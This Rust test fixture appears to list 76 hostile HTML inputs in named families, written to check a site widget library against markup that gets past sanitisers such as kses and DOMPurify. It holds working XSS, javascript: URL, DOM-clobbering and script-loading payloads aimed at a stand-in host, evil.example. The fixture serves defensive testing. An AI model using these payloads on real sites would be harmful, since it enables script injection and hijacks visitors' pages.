//! Hostile markup, by family, from people who may save text on a page but no script. Sanitisers see
//! it first: WordPress's kses, DOMPurify. `https://evil.example` is a server that no script named,
//! and `https://site.example` is the page's own site.

/// Sets the one global that shows that something ran.
macro_rules! own {
    () => {
        "globalThis.owned=1"
    };
}

/// A form and an object that shadow a property of `document`, with the site's own address: kses
/// lets the second through.
macro_rules! replace {
    ($name:literal) => {
        concat!(
            "<form name=\"", $name, "\"></form><object id=\"", $name, "\" type=\"application/pdf\" ",
            "data=\"https://site.example/wp-content/uploads/x.pdf\" data-x=\"https://evil.example/undersigned.js\"></object>"
        )
    };
}

/// Family and markup. The first of each family is tried in every browser.
pub(crate) const INPUTS: [(&str, &str); 76] = [
    (
        "handlers",
        concat!(
            "<div data-widget=\"share\" data-tabindex=\"0\" data-autofocus=\"\" data-onfocus=\"",
            own!(),
            "\">x</div>"
        ),
    ),
    (
        "handlers",
        concat!(
            "<div data-widget=\"share\" data-style=\"animation:x 1s\" data-onanimationstart=\"",
            own!(),
            "\"></div>"
        ),
    ),
    (
        "handlers",
        concat!(
            "<div data-widget=\"signature\" data-declaration=\"no-such\" data-onpointerover=\"",
            own!(),
            "\"></div>"
        ),
    ),
    (
        "handlers",
        concat!(
            "<div data-widget=\"signup\" data-list=\"no-such\" data-onclick=\"",
            own!(),
            "\"></div>"
        ),
    ),
    (
        "handlers",
        concat!(
            "<div data-widget=\"share\" data-on-focus=\"",
            own!(),
            "\" data-tabindex=\"0\"></div>"
        ),
    ),
    (
        "handlers",
        concat!(
            "<div data-widget=\"share\" data-is=\"undersigned-signature\" data-slot=\"a\" data-part=\"button\" data-onload=\"",
            own!(),
            "\"></div>"
        ),
    ),
    (
        "handlers",
        concat!(
            "<div data-widget=\"share\" data-contenteditable=\"\" data-oninput=\"",
            own!(),
            "\" data-onmouseover=\"",
            own!(),
            "\"></div>"
        ),
    ),
    (
        "handlers",
        concat!(
            "<div data-widget=\"share\" data-popover=\"\" data-onbeforetoggle=\"",
            own!(),
            "\" data-id=\"body\" data-class=\"admin\"></div>"
        ),
    ),
    (
        "servers",
        "<div data-widget=\"share\" data-server=\"https://evil.example\"></div>",
    ),
    (
        "servers",
        "<div data-widget=\"share\" data-server=\"https://evil.example/\"></div>",
    ),
    (
        "servers",
        "<div data-widget=\"share\" data-server=\"//evil.example\"></div>",
    ),
    (
        "servers",
        "<div data-widget=\"share\" data-server=\"https:evil.example\"></div>",
    ),
    (
        "servers",
        "<div data-widget=\"share\" data-server=\" https://evil.example\t\"></div>",
    ),
    (
        "servers",
        "<div data-widget=\"signature\" data-declaration=\"no-such\" data-server=\"https://evil.example/d/\"></div>",
    ),
    (
        "servers",
        "<div data-widget=\"signup\" data-list=\"no-such\" data-servers=\"https://evil.example\" data-server=\"https://evil.example\"></div>",
    ),
    (
        "servers",
        "<div data-widget=\"share\" data-server=\"https://127.0.0.1@evil.example\"></div>",
    ),
    (
        "servers",
        concat!(
            "<div data-widget=\"share\" data-server=\"javascript:",
            own!(),
            "//\"></div>"
        ),
    ),
    (
        "servers",
        concat!(
            "<div data-widget=\"share\" data-server=\"data:text/javascript,",
            own!(),
            ";//\"></div>"
        ),
    ),
    (
        "links",
        "<div data-widget=\"signature\" data-declaration=\"x\"><a href=\"https://evil.example/d/x\">Sign</a></div>",
    ),
    (
        "links",
        "<div data-widget=\"signup\" data-list=\"x\"><a href=\"https://evil.example/l/x\">Join</a></div>",
    ),
    (
        "links",
        "<div data-widget=\"signature\" data-declaration=\"x\"><p><b><a href=\"https://evil.example/d/x?from=here\">Sign</a></b></p></div>",
    ),
    (
        "links",
        "<div data-widget=\"signature\" data-declaration=\"x\"><a href=\"//evil.example/d/x\">Sign</a></div>",
    ),
    (
        "links",
        "<div data-widget=\"signature\" data-declaration=\"x\"><a href=\"https://site.example/d/x\">A</a><a href=\"https://evil.example/d/x\">B</a></div>",
    ),
    (
        "links",
        "<div data-widget=\"signature\" data-declaration=\"x\"><svg><a href=\"https://evil.example/d/x\"><text>Sign</text></a></svg></div>",
    ),
    (
        "links",
        "<div data-widget=\"signature\" data-declaration=\"x\" data-server=\"https://evil.example\"><a href=\"https://evil.example/d/x\">Sign</a></div>",
    ),
    (
        "bundles",
        "<div data-widget=\"share\" data-bundle=\"https://evil.example\"></div>",
    ),
    (
        "bundles",
        "<div data-widget=\"share\" data-bundle=\"//evil.example\"></div>",
    ),
    (
        "bundles",
        "<div data-widget=\"share\" data-bundle=\"/\\evil.example\"></div>",
    ),
    (
        "bundles",
        "<div data-widget=\"share\" data-bundle=\"http://[\"></div>",
    ),
    (
        "bundles",
        concat!(
            "<div data-widget=\"share\" data-bundle=\"data:text/javascript,",
            own!(),
            ";//\" data-glue=\"https://evil.example/a.js\" data-wasm=\"https://evil.example/a.wasm\"></div>"
        ),
    ),
    (
        "document",
        "<object id=\"scripts\" type=\"application/pdf\" data=\"https://site.example/wp-content/uploads/x.pdf\" data-x=\"https://evil.example/undersigned.js\"></object><object id=\"scripts\" type=\"application/pdf\" data=\"https://site.example/wp-content/uploads/x.pdf\" data-x=\"https://evil.example/undersigned.js\"></object>",
    ),
    ("document", replace!("querySelectorAll")),
    (
        "document",
        concat!(replace!("querySelector"), replace!("title")),
    ),
    (
        "document",
        concat!(
            replace!("createElement"),
            replace!("createElementNS"),
            replace!("createTextNode")
        ),
    ),
    ("document", concat!(replace!("body"), replace!("head"))),
    ("document", replace!("baseURI")),
    (
        "document",
        concat!(replace!("forms"), replace!("images"), replace!("links")),
    ),
    ("document", replace!("currentScript")),
    (
        "document",
        concat!(
            replace!("hidden"),
            replace!("readyState"),
            replace!("visibilityState")
        ),
    ),
    (
        "document",
        concat!(
            replace!("addEventListener"),
            replace!("removeEventListener"),
            replace!("dispatchEvent")
        ),
    ),
    (
        "document",
        concat!(
            replace!("defaultView"),
            replace!("documentElement"),
            replace!("activeElement")
        ),
    ),
    (
        "document",
        concat!(
            replace!("getElementById"),
            replace!("getElementsByTagName"),
            replace!("location")
        ),
    ),
    (
        "document",
        concat!(
            replace!("adoptedStyleSheets"),
            replace!("cookie"),
            replace!("domain"),
            replace!("URL")
        ),
    ),
    (
        "document",
        "<img id=\"scripts\" name=\"scripts\" alt=\"\" data-src=\"https://evil.example/undersigned.js\"><img name=\"location\" id=\"location\" alt=\"\">",
    ),
    (
        "window",
        "<a id=\"addEventListener\" href=\"https://evil.example/\">a</a><a id=\"removeEventListener\" href=\"https://evil.example/\">a</a>",
    ),
    (
        "window",
        "<a id=\"customElements\" href=\"https://evil.example/\">a</a><a id=\"trustedTypes\" href=\"https://evil.example/\">a</a>",
    ),
    (
        "window",
        "<a id=\"navigator\" href=\"https://evil.example/\">a</a><a id=\"fetch\" href=\"https://evil.example/\">a</a><a id=\"undersigned\" href=\"https://evil.example/\">a</a>",
    ),
    (
        "window",
        "<a id=\"HOME\" href=\"https://evil.example/\">a</a><a id=\"servers\" href=\"https://evil.example/\">a</a><a id=\"UNDERSIGNED_SERVER\" href=\"https://evil.example/\">a</a>",
    ),
    (
        "window",
        "<form id=\"self\" name=\"self\"></form><form id=\"top\" name=\"parent\"></form><a id=\"origin\" href=\"https://evil.example/\">a</a>",
    ),
    (
        "forms",
        "<form data-widget=\"share\"><button name=\"dataset\">a</button><button name=\"localName\">b</button><button name=\"getAttribute\">c</button></form>",
    ),
    (
        "forms",
        "<div data-widget=\"share\"><form><button name=\"localName\">a</button><button name=\"matches\">b</button></form></div>",
    ),
    (
        "forms",
        "<form lang=\"fr\"><button name=\"lang\">a</button><div data-widget=\"share\"></div></form>",
    ),
    (
        "forms",
        "<div data-widget=\"signature\" data-declaration=\"no-such\"><form action=\"https://evil.example/d/no-such\"><button name=\"querySelectorAll\">a</button></form></div>",
    ),
    (
        "names",
        "<div data-widget=\"constructor\" data-server=\"https://evil.example\"></div>",
    ),
    (
        "names",
        "<div data-widget=\"__proto__\"></div><div data-widget=\"toString\"></div>",
    ),
    (
        "names",
        "<div data-widget=\"script\" data-src=\"https://evil.example/a.js\"></div>",
    ),
    (
        "names",
        "<div data-widget=\"SIGNATURE\"></div><div data-widget=\"share \"></div><div data-widget=\"\"></div>",
    ),
    (
        "names",
        "<section data-widget=\"share\" data-server=\"https://evil.example\"></section><p data-widget=\"share\" data-server=\"https://evil.example\"></p><a data-widget=\"share\" href=\"https://evil.example/\" data-server=\"https://evil.example\">a</a>",
    ),
    (
        "values",
        "<div data-widget=\"signature\" data-declaration=\"../../@evil.example\"></div>",
    ),
    (
        "values",
        "<div data-widget=\"signature\" data-declaration=\"x?y=https://evil.example/#\"></div>",
    ),
    (
        "values",
        concat!(
            "<div data-widget=\"share\" data-url=\"javascript:",
            own!(),
            "\" data-text=\"&quot;&gt;&lt;img src=x onerror=",
            own!(),
            "&gt;\"></div>"
        ),
    ),
    (
        "values",
        concat!(
            "<div data-widget=\"share\" data-follow=\"rss=javascript:",
            own!(),
            " x=https://evil.example/a\" data-networks=\"copy email\"></div>"
        ),
    ),
    (
        "values",
        concat!(
            "<div data-widget=\"share\" data-lang=\"&quot;&gt;&lt;script&gt;",
            own!(),
            "&lt;/script&gt;\" data-theme=\"x&quot;onload=a\" data-layout=\"&lt;b&gt;\"></div>"
        ),
    ),
    (
        "values",
        "<div data-widget=\"share\" data-networks=\"&lt;img src=https://evil.example/a.png&gt; copy\"></div>",
    ),
    (
        "elements",
        concat!(
            "<undersigned-share server=\"https://evil.example\" tabindex=\"0\" autofocus onfocus=\"",
            own!(),
            "\"></undersigned-share>"
        ),
    ),
    (
        "elements",
        "<undersigned-signature declaration=\"x\"><a href=\"https://evil.example/d/x\">Sign</a></undersigned-signature>",
    ),
    (
        "elements",
        "<undersigned-share><template shadowrootmode=\"open\"><div><div data-island data-glue=\"https://evil.example/a.js\" data-wasm=\"https://evil.example/a.wasm\" data-text=\"https://evil.example/a.json\"></div></div></template></undersigned-share>",
    ),
    (
        "elements",
        "<div data-island data-glue=\"https://evil.example/a.js\"><div data-widget=\"share\" data-held=\"\" data-alive=\"\"></div></div>",
    ),
    (
        "elements",
        "<div is=\"undersigned-share\" server=\"https://evil.example\" data-widget=\"share\"><div slot=\"x\" data-widget=\"share\" data-server=\"https://evil.example\"></div></div>",
    ),
    (
        "scripts",
        "<div data-src=\"https://evil.example/undersigned.js\" data-server=\"https://evil.example\" data-widget=\"share\"></div>",
    ),
    (
        "scripts",
        "<script src=\"https://evil.example/undersigned.js\" data-widget=\"share\"></script>",
    ),
    (
        "scripts",
        "<svg><script data-widget=\"share\" href=\"https://evil.example/undersigned.js\"></script></svg>",
    ),
    (
        "scripts",
        "<math><mtext><div data-widget=\"share\" data-server=\"https://evil.example\"></div></mtext></math>",
    ),
    (
        "scripts",
        "<link rel=\"canonical\" href=\"https://evil.example/\"><base href=\"https://evil.example/\"><div data-widget=\"share\"></div>",
    ),
    (
        "scripts",
        "<a href=\"https://evil.example/undersigned.js\" data-server=\"https://evil.example\" data-servers=\"https://evil.example\">undersigned.js</a>",
    ),
    (
        "scripts",
        "<details data-widget=\"share\" data-server=\"https://evil.example\" open><summary data-src=\"https://evil.example/local.js\" data-bundle=\"https://evil.example\">a</summary></details>",
    ),
];
